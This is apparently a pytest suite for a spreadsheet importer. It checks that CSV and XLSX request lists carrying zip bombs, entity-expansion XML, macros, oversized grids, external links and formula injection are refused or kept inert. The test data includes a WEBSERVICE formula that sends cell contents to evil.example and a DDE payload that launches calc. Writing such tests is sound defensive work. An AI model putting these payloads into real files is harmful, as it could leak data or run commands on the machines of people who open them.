# SPDX-License-Identifier: Apache-2.0
"""Files that nobody should send: each is read, or refused in words, in bounded time, and nothing is half-written."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import shutil
import socket
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, Phase, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl.packaging.relationship import Relationship
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink
from tests.unit.flows.pbc_book import REQUESTS, SHEET, change, make_book, rows_of

from tieout.criteria.pbc import PbcField
from tieout.criteria.workbook_bounds import MOST_CELLS
from tieout.criteria.workbooks import MAX_FILE_BYTES, MAX_UNPACKED_BYTES
from tieout.errors import ConfigurationError
from tieout.flows.pbc import ImportedList, Said, import_list, list_file, read_list, write_list
from tieout.flows.pbc_csv import MOST_ROWS
from tieout.flows.pbc_files import write_back
from tieout.settings import Settings

PERIOD, SECONDS = "2026-H1", 20
NOTHING = Said(columns={})
LIST_PART = "xl/worksheets/sheet2.xml"
END = b"</sheetData>"
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\u00a0=1",
    "\uff1d1+1",
    '=HYPERLINK("https://e.example")',
]


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory, repository: Path) -> Settings:
    home = tmp_path_factory.mktemp("hostile")
    (home / "include").mkdir()
    shutil.copytree(repository / "include/criteria", home / "include/criteria", ignore=shutil.ignore_patterns("controls"))
    return Settings(home=home)


@pytest.fixture
def book(tmp_path: Path) -> Path:
    return make_book(tmp_path / "requests.xlsx")


@pytest.fixture(autouse=True)
def offline(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing that a file names is fetched."""

    def refused(*_: Any) -> None:
        raise AssertionError("a connection")

    monkeypatch.setattr(socket.socket, "connect", refused)


@pytest.fixture(autouse=True)
def bounded() -> Iterator[None]:
    before = time.monotonic()
    yield
    assert time.monotonic() - before < SECONDS


def imported(settings: Settings, file: Path) -> ImportedList:
    return import_list(settings, "hostile", file, PERIOD, Said(sheet=SHEET, columns={}) if file.suffix == ".xlsx" else NOTHING)


def changed(book: Path, parts: dict[str, Callable[[bytes], bytes]], **added: bytes) -> Path:
    """Change parts of a workbook, and add some."""
    data = book.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            after.writestr(name, parts.get(name, bytes)(before.read(name)))
        for name, part in added.items():
            after.writestr(name, part)
    return book


def in_list(book: Path, change_: Callable[[bytes], bytes]) -> Path:
    return changed(book, {LIST_PART: change_})


def many_blank_rows(book: Path) -> Path:
    rows = b"".join(b'<row r="%d" ht="15" customHeight="1"/>' % number for number in range(200, 1_000_200))
    return in_list(book, lambda part: part.replace(END, rows + END))


def many_blank_cells(book: Path) -> Path:
    rows = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (number, number) for number in range(200, 200 + MOST_CELLS))
    return in_list(book, lambda part: part.replace(END, rows + END))


def everything_merged(book: Path) -> Path:
    return in_list(book, lambda part: part.replace(b'<mergeCell ref="A1:I1"', b'<mergeCell ref="A1:XFD1048576"'))


def everything_linked(book: Path) -> Path:
    links = b'<hyperlinks><hyperlink ref="$A$1:$XFD$1048576" location="x"/></hyperlinks>'
    return in_list(book, lambda part: part.replace(b"</worksheet>", links + b"</worksheet>"))


def entities(book: Path) -> Path:
    declared = b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    return in_list(book, lambda part: declared + part.rpartition(b"?>")[2].replace(b"CTO", b"&b;"))


def zip_bomb(book: Path) -> Path:
    return changed(book, {}, **{"xl/media/bomb.xml": b" " * (MAX_UNPACKED_BYTES + 1)})


def too_large(book: Path) -> Path:
    book.write_bytes(book.read_bytes() + b"\0" * MAX_FILE_BYTES)
    return book


def truncated(book: Path) -> Path:
    book.write_bytes(book.read_bytes()[:-400])
    return book


def no_workbook(book: Path) -> Path:
    with zipfile.ZipFile(book, "w") as archive:
        archive.writestr("hello.txt", "hello")
    return book


def old_format(book: Path) -> Path:
    book.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096)  # also what a workbook with a password is
    return book


REFUSED = {
    many_blank_rows: "rows and cells, blank, merged and linked ones among them, got more",
    many_blank_cells: "rows and cells, blank, merged and linked ones among them, got more",
    everything_merged: "rows and cells, blank, merged and linked ones among them, got more",
    everything_linked: "rows and cells, blank, merged and linked ones among them, got more",
    entities: "declares a document type",
    zip_bomb: f"expected at most {MAX_UNPACKED_BYTES} bytes unpacked",
    too_large: f"expected at most {MAX_FILE_BYTES} bytes, got more",
    truncated: "no XLSX workbook that can be read",
    no_workbook: "no XLSX workbook that can be read",
    old_format: "One with a password can not",
}


@pytest.mark.parametrize("attack", REFUSED, ids=lambda attack: attack.__name__)
def test_a_workbook_that_is_too_much_or_none_is_refused_in_words(
    settings: Settings, book: Path, attack: Callable[[Path], Path]
) -> None:
    with pytest.raises(ConfigurationError, match=REFUSED[attack]):
        imported(settings, attack(book))
    assert not list_file(settings, "hostile").exists()


@pytest.mark.parametrize("attack", [everything_merged, zip_bomb, entities], ids=lambda attack: attack.__name__)
def test_one_that_is_refused_when_it_is_written_back_leaves_no_file(
    settings: Settings, book: Path, tmp_path: Path, attack: Callable[[Path], Path]
) -> None:
    requests = imported(settings, book).requests
    attack(book)
    same = requests.model_copy(update={"file_sha256": hashlib.sha256(book.read_bytes()).hexdigest()})
    (tmp_path / "out").mkdir()
    with pytest.raises(ConfigurationError):
        write_back(book, tmp_path / "out/back.xlsx", same, {"1.01": {PbcField.COMMENT: "x"}})
    assert list((tmp_path / "out").iterdir()) == []


@pytest.mark.parametrize("suffix", [".xlsm", ".xlsb", ".xls", ".ods", ".txt", ""])
def test_a_file_of_another_kind_is_refused_by_its_name(settings: Settings, book: Path, suffix: str) -> None:
    renamed = book.rename(book.with_suffix(suffix))
    with pytest.raises(ConfigurationError, match=r"expected a file that ends in \.csv or \.xlsx"):
        import_list(settings, "hostile", renamed, PERIOD, NOTHING)


def test_macros_in_a_workbook_are_not_kept_which_is_told(settings: Settings, book: Path, tmp_path: Path) -> None:
    macros = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    changed(book, {"[Content_Types].xml": lambda part: part.replace(plain, macros)}, **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    found = imported(settings, book)
    assert len(found.requests.requests) == REQUESTS
    assert write_back(book, tmp_path / "back.xlsx", found.requests, {"1.01": {PbcField.COMMENT: "x"}}) == ["macros"]
    with zipfile.ZipFile(tmp_path / "back.xlsx") as archive:
        assert not [name for name in archive.namelist() if "vba" in name]
        assert macros not in archive.read("[Content_Types].xml")


def test_links_to_other_files_are_never_followed_and_stay_as_they_were(settings: Settings, book: Path, tmp_path: Path) -> None:
    workbook = openpyxl.load_workbook(book)
    link = ExternalLink(externalBook=ExternalBook(id="rId1"))
    link.file_link = Relationship(type="externalLinkPath", Target="https://evil.example/x.xlsx", TargetMode="External", Id="rId1")
    workbook._external_links.append(link)
    first = rows_of(book)["1.01"]
    workbook[SHEET][f"D{first}"] = "=[1]Sheet1!A1"
    workbook[SHEET][f"B{first}"].hyperlink = "https://evil.example/"
    workbook.save(book)
    found = imported(settings, book)
    assert len(found.requests.requests) == REQUESTS
    [told] = [each for each in found.imported.not_understood if each.row == first]
    assert (told.field, told.why) == (PbcField.OWNER, "a formula, and Tieout evaluates none: paste its value")
    write_back(book, tmp_path / "back.xlsx", found.requests, {"1.01": {PbcField.COMMENT: "x"}})
    after = openpyxl.load_workbook(tmp_path / "back.xlsx")
    assert [each.file_link.Target for each in after._external_links] == ["https://evil.example/x.xlsx"]
    assert after[SHEET][f"D{first}"].value == "=[1]Sheet1!A1"


def test_formulas_in_any_column_are_told_and_none_is_evaluated(settings: Settings, book: Path) -> None:
    row = rows_of(book)["1.01"]
    change(book, **{f"{column}{row}": '=WEBSERVICE("https://evil.example/"&A1)' for column in "ACDEH"})
    found = imported(settings, book)
    [request] = [each for each in found.requests.requests if each.row == row]
    assert (request.criteria, request.owner, request.due, request.auditor_status) == ((), None, None, None)
    assert request.id.startswith("R-"), "without a reference it is made of the text"
    told = {each.field for each in found.imported.not_understood if each.row == row}
    assert told == {PbcField.ID, PbcField.CRITERIA, PbcField.OWNER, PbcField.DUE, PbcField.AUDITOR_STATUS}


def test_merged_cells_of_ours_hold_what_is_written_for_each_of_their_rows(settings: Settings, book: Path, tmp_path: Path) -> None:
    first, second, third = (rows_of(book)[each] for each in ("1.01", "1.02", "1.03"))
    workbook = openpyxl.load_workbook(book)
    workbook[SHEET].merge_cells(f"F{first}:F{third}")
    workbook[SHEET].merge_cells(f"F{third + 1}:G{third + 1}")
    workbook.save(book)
    requests = imported(settings, book).requests
    said = {"1.01": "one", "1.02": "two", "1.03": "one", "1.04": "four"}
    values = {name: {PbcField.OUR_STATUS: text, PbcField.COMMENT: ""} for name, text in said.items()}
    write_back(book, tmp_path / "back.xlsx", requests, values)
    sheet = openpyxl.load_workbook(tmp_path / "back.xlsx")[SHEET]
    assert sheet[f"F{first}"].value == "one\ntwo"
    assert sheet[f"F{second}"].value is None
    assert sheet[f"F{third + 1}"].value == "four"


def test_a_cell_in_the_last_column_leaves_no_room_which_is_said(settings: Settings, book: Path, tmp_path: Path) -> None:
    change(book, XFD1048576="x")
    with pytest.raises(ConfigurationError, match=f"at most {MOST_ROWS} rows"):
        imported(settings, book)
    change(book, XFD1048576=None, XFD5="x")
    requests = imported(settings, book).requests
    with pytest.raises(ConfigurationError, match="--column evidence=K"):
        write_back(book, tmp_path / "back.xlsx", requests, {"1.01": {PbcField.COMMENT: "x"}})
    assert not (tmp_path / "back.xlsx").exists()


@pytest.mark.parametrize("text", FORMULAS)
def test_whatever_a_value_begins_with_it_is_inert_in_xlsx(settings: Settings, book: Path, tmp_path: Path, text: str) -> None:
    requests = imported(settings, book).requests
    write_back(book, tmp_path / "back.xlsx", requests, {"1.01": dict.fromkeys(
        (PbcField.OUR_STATUS, PbcField.EVIDENCE, PbcField.COMMENT), text)})  # fmt: skip
    sheet, row = openpyxl.load_workbook(tmp_path / "back.xlsx")[SHEET], rows_of(book)["1.01"]
    for column in "FGJ":
        cell = sheet[f"{column}{row}"]
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
        assert cell.value.replace("\r", "\n").strip() == text.replace("\r", "\n").strip()
    with zipfile.ZipFile(tmp_path / "back.xlsx") as archive:
        assert b"<f>" not in archive.read(LIST_PART)


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_whatever_a_value_begins_with_it_is_inert_in_csv(settings: Settings, tmp_path: Path, text: str, delimiter: str) -> None:
    file = tmp_path / "requests.csv"
    file.write_text(f"Ref{delimiter}Request\nA1{delimiter}Access list\n", encoding="utf-8")
    requests = imported(settings, file).requests
    write_back(file, tmp_path / "back.csv", requests, {"A1": {PbcField.COMMENT: text}})
    with (tmp_path / "back.csv").open(newline="", encoding="utf-8") as opened:
        cell = list(csv.reader(opened, delimiter=delimiter))[1][4]
    assert cell.startswith("'")
    assert cell.replace("'", "") == text


@pytest.mark.parametrize(
    ("data", "ids"),
    [
        ("\ufeffRef;Request;Criteria\nA1;Zugriffslisten für alle;CC6.1\n".encode(), ["A1"]),
        (b"Ref;Request\nA1;All changes, all approvals, all tickets, all tests, and, if any, all waivers\n", ["A1"]),
        (b"Ref\tRequest\r\nA1\tAccess; all of it, please; and leavers\r\n", ["A1"]),
        (b'sep=;\r\nRef;Request\r\nA1;"two\r\nlines; one cell"\r\n', ["A1"]),
        (b"Ref,Request\nA1,=cmd|'/c calc'!A0\nA2,\x00 and \x07\n", ["A1", "A2"]),
        (b"Ref,Request\n" + b",\n" * 500 + b"A1,Access list\n", ["A1"]),
    ],
    ids=[
        "bom and semicolons",
        "commas in texts",
        "tabs",
        "a line for the delimiter",
        "formulas and control characters",
        "gap",
    ],
)
def test_a_csv_file_as_programs_write_it_is_read_and_its_list_reads_back(
    settings: Settings, tmp_path: Path, data: bytes, ids: list[str]
) -> None:
    file = tmp_path / "requests.csv"
    file.write_bytes(data)
    found = imported(settings, file).requests
    assert [each.id for each in found.requests] == ids
    write_list(settings, "read_back", found)
    assert read_list(settings, "read_back") == found


@pytest.mark.parametrize(
    ("data", "words"),
    [
        ("Ref;Request\nA1;Zugriffe für alle\n".encode("latin-1"), "Save it as CSV UTF-8"),
        ("Ref;Request\nA1;x\n".encode("utf-16"), "Save it as CSV UTF-8"),
        (b"Ref,Request\nA1,x\n" + b",\n" * 1_000_000, f"expected at most {MOST_ROWS} rows"),
        (b"\n" * 1_000_000, f"expected at most {MOST_ROWS} rows"),
        (b"Ref,Request\nA1," + b"x" * 120_000, "expected cells of at most 100000 characters, got 120000"),
        (b'Ref,Request\nA1,"open\n', "no CSV: unexpected end of data"),
        (b"," * 1_000_000, "expected headings"),
        (b"", "expected headings"),
    ],
    ids=["latin-1", "utf-16", "blank rows", "blank lines", "a huge cell", "an open quote", "a huge row", "nothing"],
)
def test_a_csv_file_that_can_not_be_read_is_refused_in_words(settings: Settings, tmp_path: Path, data: bytes, words: str) -> None:
    file = tmp_path / "requests.csv"
    file.write_bytes(data)
    with pytest.raises(ConfigurationError, match=words):
        imported(settings, file)
    assert not list_file(settings, "hostile").exists()


@given(st.integers(0, 9_000), st.binary(min_size=1, max_size=40))
@hypothesis_settings(max_examples=25, phases=[Phase.generate], suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_workbook_with_any_bytes_changed_is_read_or_refused(settings: Settings, book: Path, at: int, data: bytes) -> None:
    good = book.read_bytes()
    try:
        book.write_bytes(good[:at] + data + good[at + len(data) :])
        with contextlib.suppress(ConfigurationError):  # any other error is ours
            imported(settings, book)
    finally:
        book.write_bytes(good)


@given(st.lists(st.tuples(*[st.text(max_size=12)] * 4), max_size=12))
@hypothesis_settings(max_examples=25, phases=[Phase.generate], suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_texts_in_a_csv_list_are_requests_or_told_and_come_back_as_they_were(
    settings: Settings, tmp_path: Path, rows: list[tuple[str, ...]]
) -> None:
    file = tmp_path / "requests.csv"
    try:
        with file.open("w", encoding="utf-8", newline="") as opened:
            csv.writer(opened).writerows([("Ref", "Request", "Criteria", "Due date"), *rows, ("LAST", "Access list", "", "")])
    except UnicodeEncodeError:
        return  # a lone surrogate is in no file
    found = imported(settings, file)
    told = {each.row for each in found.imported.not_understood}
    requests = {each.row for each in found.requests.requests}
    said = {number for number, row in enumerate(rows, start=2) if any(cell.split() for cell in row)}
    assert said <= told | requests, "nothing is lost without being told"
    write_list(settings, "any", found.requests)
    assert read_list(settings, "any") == found.requests
    write_back(file, tmp_path / "back.csv", found.requests, {})
    with file.open(newline="", encoding="utf-8") as one, (tmp_path / "back.csv").open(newline="", encoding="utf-8") as other:
        before, after = list(csv.reader(one)), list(csv.reader(other))
    assert [row[:4] for row in after] == before
